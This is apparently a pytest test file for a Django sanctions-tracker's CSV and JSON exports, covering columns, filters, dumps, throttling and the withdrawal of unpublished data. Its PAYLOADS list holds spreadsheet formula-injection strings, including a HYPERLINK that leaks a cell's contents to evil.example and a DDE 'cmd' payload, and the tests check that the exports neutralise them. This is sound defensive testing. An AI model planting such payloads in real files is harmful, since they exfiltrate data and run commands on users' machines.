import csv
import datetime
import hashlib
import io
import json

import pytest
from celery.signals import worker_ready
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from sanctions import exports, tasks
from sanctions.models import (
    Alias,
    Designation,
    Identifier,
    IdentifierScheme,
    Program,
)

from . import requires_ftm
from .factories import (
    make_action,
    make_article,
    make_authority,
    make_entity,
    make_legal_basis,
    make_source,
    make_staff,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fresh_cache_and_storage")]

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd|' /C calc'!A0",
    "\r=1+1",
    "'already quoted",
    " =1+1",  # spreadsheets skip leading spaces
    "\u3000\uff1dSUM(A1)",  # an ideographic space, then a full-width equals sign
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]


def download(client, url):
    response = client.get(url)
    assert response.status_code == 200, response.content
    assert response.streaming
    return b"".join(response.streaming_content)


def read_csv(body: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


def restore(cell: str) -> str:
    """The stored text of a neutralised cell, as the /exports/ page tells users."""
    return cell[1:] if cell.startswith("'") else cell


def test_actions_csv_has_one_row_per_designation_and_the_documented_columns(client):
    eo = make_legal_basis(slug="eo-13382")
    ndc = make_entity(name="National Development Complex", countries=["PK"])
    supplier = make_entity(name="Affiliates International", countries=["PK", "CN"])
    action = make_action(
        title="Four designations", entities=[ndc, supplier], legal_bases=[eo],
        announced_on=datetime.date(2024, 12, 18),
    )  # fmt: skip
    action.programs.add(Program.objects.create(code="NPWMD", name="Nonproliferation"))
    make_source(action, url="https://www.state.gov/a")
    make_source(action)  # not confirmed: no URL in the export
    Designation.objects.filter(entity=supplier).update(reason='Supplied, "items"\nto NDC')
    rule = make_action(title="A rule naming nobody", announced_on=datetime.date(2023, 1, 1))

    body = download(client, "/exports/actions.csv")
    rows = read_csv(body)

    header = body.split(b"\r\n", 1)[0].decode()
    assert header.split(",") == [name for name, _, _ in exports.ACTION_COLUMNS]
    assert [(r["action_id"], r["entity_name"]) for r in rows] == [
        (str(action.pk), "National Development Complex"),
        (str(action.pk), "Affiliates International"),
        (str(rule.pk), ""),
    ]
    first = rows[1]
    assert first["announced_on"] == "2024-12-18"
    assert first["legal_bases"] == "eo-13382"
    assert first["programs"] == "NPWMD"
    assert first["source_urls"] == "https://www.state.gov/a"
    assert first["entity_countries"] == "PK; CN"
    assert first["reason"] == 'Supplied, "items"\nto NDC'
    assert first["action_url"].endswith(f"/actions/{action.pk}/")
    assert body.count(b"\r\n") == 4  # header and three rows, CRLF-terminated (RFC 4180)


def test_csv_is_utf8_and_keeps_every_script(client):
    entity = make_entity(name="Beijing Luo Luo Technology")
    for name in ("北京洛洛科技发展有限公司", "Белорусский завод", "شرکت صنایع"):
        Alias.objects.create(entity=entity, name=name)
    make_action(entities=[entity])

    response = client.get("/exports/entities.csv")
    rows = read_csv(b"".join(response.streaming_content))

    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert set(rows[0]["aliases"].split("; ")) == {
        "北京洛洛科技发展有限公司",
        "Белорусский завод",
        "شرکت صنایع",
    }


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_in_names_come_out_neutralised_and_round_trip_as_text(client, payload):
    entity = make_entity(name=payload, description=payload)
    Alias.objects.create(entity=entity, name=payload + " alias")
    action = make_action(title=payload, entities=[entity])
    Designation.objects.filter(action=action).update(name_as_listed=payload, reason=payload)

    action_row = read_csv(download(client, "/exports/actions.csv"))[0]
    entity_row = read_csv(download(client, "/exports/entities.csv"))[0]

    cells = [
        action_row["title"],
        action_row["entity_name"],
        action_row["name_as_listed"],
        action_row["reason"],
        entity_row["name"],
        entity_row["description"],
    ]
    for cell in cells:
        assert cell.startswith("'")
        assert restore(cell) == payload
    assert restore(entity_row["aliases"]) == payload + " alias"


def test_every_formula_trigger_is_neutralised():
    """The cell expression the CSV exports use, on each trigger (NUL aside: PostgreSQL
    text cannot hold it, so no stored text begins with one)."""

    def cell(value):
        with connection.cursor() as cursor:
            expression = exports._text("v")  # noqa: SLF001
            cursor.execute(f"SELECT {expression} FROM (SELECT %s::text AS v) AS given", [value])
            return cursor.fetchone()[0]

    for trigger in ("=", "+", "-", "@", "\t", "\r", "'"):
        assert cell(trigger + "x") == "'" + trigger + "x"
    for risky in (" =1", "\u00a0+1", "\uff1d1", "\u3000\uff20x"):
        assert cell(risky) == "'" + risky
    assert cell("x=1") == "x=1"
    assert cell(" ACME") == " ACME"
    assert cell("") == ""


def test_harmless_cells_are_left_alone(client):
    make_action(title="Designation of 3 suppliers", entities=[make_entity(name="Rockside")])

    row = read_csv(download(client, "/exports/actions.csv"))[0]

    assert row["title"] == "Designation of 3 suppliers"
    assert row["entity_name"] == "Rockside"


@pytest.mark.parametrize(
    "query", ["authority=us-bis", "country=PK&date_from=2024-01-01", "q=rockside", "kind=rule"]
)
def test_action_exports_select_what_the_action_list_page_selects(client, query):
    bis = make_authority(slug="us-bis")
    rockside = make_entity(name="Rockside Enterprise", countries=["PK"])
    other = make_entity(name="Beijing Luo Luo", countries=["CN"])
    make_action(authority=bis, entities=[rockside], announced_on=datetime.date(2024, 3, 1))
    make_action(entities=[other], announced_on=datetime.date(2024, 5, 1))
    make_action(entities=[rockside], announced_on=datetime.date(2025, 5, 1))
    make_action(kind="rule", announced_on=datetime.date(2022, 5, 1))

    # Exports list records by id, so that successive files compare line by line.
    expected = sorted(a.pk for a in client.get(f"/actions/?{query}").context["page"])
    from_csv = [
        int(r["action_id"]) for r in read_csv(download(client, f"/exports/actions.csv?{query}"))
    ]
    from_json = [a["id"] for a in json.loads(download(client, f"/exports/actions.json?{query}"))]

    assert expected
    assert from_csv == expected
    assert from_json == expected


@pytest.mark.parametrize("query", ["country=pk", "kind=organization", "q=Granpect"])
def test_entity_export_selects_what_the_entity_list_page_selects(client, query):
    pakistani = make_entity(name="National Development Complex", countries=["PK"])
    Alias.objects.create(entity=pakistani, name="NDC")
    chinese = make_entity(name="Granpect", countries=["CN"], kind="organization")
    make_action(entities=[pakistani, chinese])

    expected = {e.name for e in client.get(f"/entities/?{query}").context["page"]}
    exported = {r["name"] for r in read_csv(download(client, f"/exports/entities.csv?{query}"))}

    assert expected
    assert exported == expected


@pytest.mark.parametrize("name", list(exports.EXPORTS))
@pytest.mark.parametrize(
    "query, field",
    [
        ("country=Pakistan", "country"),
        ("date_from=2024-13-45", "date_from"),
        ("authority=no-such-authority", "authority"),
        ("kind=everything", "kind"),
        ("page=-1", "page"),
        ("limit=1000000000", "limit"),
    ],
)
def test_malformed_or_unknown_filters_are_refused_not_ignored(client, name, query, field):
    make_action(entities=[make_entity()])

    response = client.get(f"/exports/{name}?{query}")

    assert response.status_code == 400
    assert field in response.json()


def test_drafts_and_what_only_they_name_are_not_exported(client):
    secret = make_entity(name="Only in a draft")
    make_action(title="Draft", entities=[secret], published=False)
    make_action(title="Public", entities=[make_entity(name="Public entity")])

    for name in exports.EXPORTS:
        body = download(client, f"/exports/{name}").decode()
        assert "Only in a draft" not in body
        assert "Draft" not in body
        assert "Public entity" in body


def test_entities_csv_summarises_names_identifiers_and_actions(client):
    ndc = make_entity(name="NDC", countries=["PK"])
    Alias.objects.create(entity=ndc, name="National Development Complex")
    Identifier.objects.create(entity=ndc, scheme=IdentifierScheme.OFAC_ENT_NUM, value="123")
    state = make_authority(slug="us-state")
    bis = make_authority(slug="us-bis")
    make_action(entities=[ndc], authority=state, announced_on=datetime.date(2021, 1, 1))
    make_action(entities=[ndc], authority=bis, announced_on=datetime.date(2024, 12, 18))
    make_action(entities=[ndc], published=False, announced_on=datetime.date(2025, 1, 1))

    [row] = read_csv(download(client, "/exports/entities.csv"))

    assert row["aliases"] == "National Development Complex"
    assert row["identifiers"] == "ofac:123"
    assert row["action_count"] == "2"
    assert (row["first_announced_on"], row["last_announced_on"]) == ("2021-01-01", "2024-12-18")
    assert row["authorities"] == "us-bis; us-state"


def test_actions_json_gives_each_action_as_the_api_does(client, settings):
    settings.SITE_ROOT = "https://tracker.example"  # files and pages link alike when set
    action = make_action(entities=[make_entity()], legal_bases=[make_legal_basis()])
    make_source(action, url="https://example.gov/x")
    make_article(actions=[action])

    exported = json.loads(download(client, "/exports/actions.json"))
    from_api = client.get(f"/api/v1/actions/{action.pk}/").json()

    assert exported == [from_api]


def test_an_empty_selection_is_still_a_valid_file(client):
    assert json.loads(download(client, "/exports/actions.json")) == []
    assert read_csv(download(client, "/exports/actions.csv")) == []


def _queries(client, url):
    with CaptureQueriesContext(connection) as queries:
        download(client, url)
    return len(queries)


@pytest.mark.parametrize("name", list(exports.EXPORTS))
def test_export_query_count_does_not_grow_with_rows(client, name):
    def add(n):
        for _ in range(n):
            entity = make_entity()
            Alias.objects.create(entity=entity, name=f"Alias {entity.pk}")
            action = make_action(entities=[entity, make_entity()], legal_bases=[make_legal_basis()])
            make_source(action, url=f"https://example.gov/{action.pk}")
            make_article(actions=[action]).entities.add(entity)

    url = f"/exports/{name}?" + ("kind=company" if name == "entities.csv" else "kind=designation")
    add(2)
    few = _queries(client, url)
    add(5)
    many = _queries(client, url)

    assert few == many


def test_unfiltered_downloads_serve_the_latest_dump_with_its_checksum(client):
    make_action(title="In the dump", entities=[make_entity(name="Dumped")])
    manifest = exports.write_dumps()
    make_action(title="Added after the dump", entities=[make_entity(name="Later")])

    response = client.get("/exports/actions.csv")
    body = b"".join(response.streaming_content)
    live = download(client, "/exports/actions.csv?date_from=2000-01-01")
    files = {f["name"]: f for f in manifest["files"]}
    not_modified = client.get("/exports/actions.csv", HTTP_IF_NONE_MATCH=response["ETag"])

    assert b"In the dump" in body
    assert b"Added after the dump" not in body
    assert b"Added after the dump" in live
    assert response["ETag"] == f'"{hashlib.sha256(body).hexdigest()}"'
    assert files["actions.csv"]["sha256"] == hashlib.sha256(body).hexdigest()
    assert files["actions.csv"]["records"] == 1
    assert files["actions.csv"]["size"] == len(body)
    assert not_modified.status_code == 304


@requires_ftm
def test_the_ftm_dump_counts_its_records(client):
    make_action(title="In the dump", entities=[make_entity(name="Dumped")])
    manifest = exports.write_dumps()
    files = {f["name"]: f for f in manifest["files"]}

    ftm_dump = b"".join(client.get("/exports/ftm.jsonl").streaming_content)

    assert files["ftm.jsonl"]["records"] == len(ftm_dump.splitlines()) == 2  # entity, Sanction


def test_a_new_dump_replaces_the_old_and_only_two_are_kept(client):
    make_action(entities=[make_entity()])
    generations = []
    for day in range(3):
        with pytest.MonkeyPatch.context() as patch:
            moment = datetime.datetime(2026, 1, 1 + day, tzinfo=datetime.UTC)
            patch.setattr(exports.timezone, "now", lambda moment=moment: moment)
            generations.append(exports.write_dumps()["generated_at"])

    assert exports.latest_manifest()["generated_at"] == generations[-1]
    assert len(exports._dump_folders(exports.default_storage)) == exports.DUMPS_KEPT


def test_index_lists_each_file_with_size_records_time_and_licence(client):
    make_action(entities=[make_entity()])
    before = client.get("/exports/").content.decode()
    manifest = exports.write_dumps()

    page = client.get("/exports/").content.decode()

    assert "ready in a few minutes" in before and "export_dumps" not in before
    assert "export_dumps" not in page and "every 6 hours" in page
    for file in manifest["files"]:
        assert f'href="/exports/{file["name"]}"' in page
        assert file["sha256"][:10] in page
    assert "CC BY 4.0" in page
    assert "<code>action_id</code>" in page  # the columns are documented
    assert "<code>authorities</code>" in page
    assert "2026" in page or str(datetime.date.today().year) in page


def test_live_exports_are_throttled_but_dump_files_are_not(client, monkeypatch):
    monkeypatch.setattr(exports.ExportThrottle, "rate", "2/hour", raising=False)
    make_action(entities=[make_entity()])

    live = [client.get("/exports/actions.csv?kind=designation") for _ in range(3)]
    exports.write_dumps()
    dump = [client.get("/exports/actions.csv") for _ in range(3)]

    assert [r.status_code for r in live] == [200, 200, 429]
    assert int(live[-1]["Retry-After"]) > 0
    assert [r.status_code for r in dump] == [200, 200, 200]


def test_an_unknown_export_is_404(client):
    assert client.get("/exports/everything.xlsx").status_code == 404


def test_export_dumps_command_writes_the_files_the_index_lists(client):
    make_action(entities=[make_entity()])
    out = io.StringIO()

    call_command("export_dumps", stdout=out)

    manifest = exports.latest_manifest()
    assert [f["name"] for f in manifest["files"]] == list(exports.EXPORTS)
    assert "actions.csv: 1 records" in out.getvalue()


def test_a_starting_worker_queues_the_first_dump_only_when_none_is_served(monkeypatch):
    queued = []
    monkeypatch.setattr(tasks.write_export_dumps, "delay", lambda: queued.append(1))
    make_action(entities=[make_entity()])

    worker_ready.send(sender=None)  # as `celery worker` does once it is ready
    exports.write_dumps()
    worker_ready.send(sender=None)
    exports.withdraw_dumps()  # a publication while no worker ran
    worker_ready.send(sender=None)

    assert queued == [1, 1]


def test_the_periodic_task_writes_a_dump(settings):
    make_action(entities=[make_entity()])

    generated_at = tasks.write_export_dumps()

    assert exports.latest_manifest()["generated_at"] == generated_at
    assert "write-export-dumps" in settings.CELERY_BEAT_SCHEDULE


@pytest.mark.django_db
def test_an_entity_export_whose_search_matches_nothing_is_just_the_header(client):
    response = client.get("/exports/entities.csv", {"q": "zzqqxxyy nothing like it"})

    assert response.status_code == 200
    lines = b"".join(response.streaming_content).decode().splitlines()
    assert len(lines) == 1  # the documented header, no rows


def test_unpublishing_withdraws_the_dump_files_at_once_and_queues_new_ones(
    client, monkeypatch, django_capture_on_commit_callbacks
):
    kept = make_action(title="Still published", entities=[make_entity(name="Kept")])
    withdrawn = make_action(title="Withdrawn by a reviewer", entities=[make_entity(name="Gone")])
    exports.write_dumps()
    assert b"Withdrawn by a reviewer" in download(client, "/exports/actions.csv")
    queued = []
    monkeypatch.setattr(tasks.write_export_dumps, "delay_on_commit", lambda: queued.append(1))
    reviewer = Client()
    reviewer.force_login(make_staff("reviewer1", "reviewer"))

    with django_capture_on_commit_callbacks(execute=True):
        reviewer.post(
            "/admin/sanctions/action/",
            {"action": "unpublish", "_selected_action": [withdrawn.pk]},
        )

    body = download(client, "/exports/actions.csv")
    assert b"Withdrawn by a reviewer" not in body and kept.title.encode() in body
    assert exports.latest_manifest() is None  # nothing stale is served meanwhile
    assert queued == [1]
    exports.write_dumps()  # the worker's new dump is served again
    assert exports.latest_manifest() is not None
